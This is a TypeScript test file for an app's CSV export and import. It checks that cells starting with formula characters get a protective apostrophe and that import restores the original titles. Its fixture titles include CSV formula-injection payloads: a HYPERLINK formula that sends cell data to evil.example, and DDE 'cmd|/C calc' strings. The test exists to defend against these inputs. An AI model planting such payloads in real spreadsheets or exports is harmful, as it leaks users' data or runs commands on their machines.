/**
 * CSV formula injection (issue 41, F4): `export --format csv` writes a cell that starts with `=`, `+`,
 * `-`, `@`, a tab or a carriage return with a leading `'`, so a spreadsheet shows it as text; `import` of
 * that file takes the `'` off again, so the titles come back exactly, legitimate `-` starts included.
 */
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createWriteStream, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { neutraliseCell, restoreCell } from '../../src/ingest/csv-formulas.js';
import { exportEntries } from '../../src/ingest/export-entries.js';
import { importFile } from '../../src/ingest/import-file.js';
import { createTestContext, STORES, type TestContext } from '../support/harness.js';

const TITLES = [
  '=HYPERLINK("https://evil.example/?x="&A1,"点我")',
  "+cmd|' /C calc'!A0",
  '-2 的逆袭（全集）',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  "'=已经带撇号",
  "''-两个撇号",
  "'普通撇号开头",
  '普通标题 = 不在开头',
];

test('neutraliseCell and restoreCell are exact inverses, tab and carriage return included', () => {
  for (const value of [...TITLES, '\tTab', '\rCR', '', "'", "'\t", 'plain']) {
    assert.equal(restoreCell(neutraliseCell(value)), value, JSON.stringify(value));
  }
  assert.equal(neutraliseCell('\t=1'), "'\t=1");
  assert.equal(neutraliseCell('\r=1'), "'\r=1");
});

for (const store of STORES) {
  describe(`csv export neutralises formulas and import restores them [${store}]`, () => {
    let source: TestContext;
    let restored: TestContext;
    let dir: string;
    before(async () => {
      dir = mkdtempSync(join(tmpdir(), 'dramadex-csv-formulas-'));
      source = await createTestContext(store);
      restored = await createTestContext(store);
    });
    after(async () => {
      await source.close();
      await restored.close();
      rmSync(dir, { recursive: true, force: true });
    });

    test('no exported cell starts a formula; the round trip keeps every title', async () => {
      await source.importEntries(
        TITLES.map((title, index) => ({
          title,
          source_link: `https://pan.example.com/s/formula-${index}`,
          type: 'post',
          update_time: '2024-05-01 10:00:00',
        })),
      );
      const file = join(dir, 'export.csv');
      const out = createWriteStream(file);
      assert.equal(await exportEntries(source.services.catalogue.store, out, { format: 'csv' }), TITLES.length);
      out.end();
      await once(out, 'finish');

      const cells = (parse(readFileSync(file, 'utf8'), { from_line: 2 }) as string[][]).flat();
      for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a spreadsheet would run ${cell}`);
      assert.ok(cells.includes("'-2 的逆袭（全集）"));
      assert.ok(cells.includes("''=已经带撇号"));

      const report = await importFile(restored.services.catalogue.store, file, {});
      assert.equal(report.rejected.length, 0, JSON.stringify(report.rejected));
      await restored.services.catalogue.refresh();
      const titles = (await restored.app.inject('/api/contents?limit=100'))
        .json()
        .data.items.map((entry: { title: string }) => entry.title);
      assert.deepEqual([...titles].sort(), [...TITLES].sort());
    });
  });
}
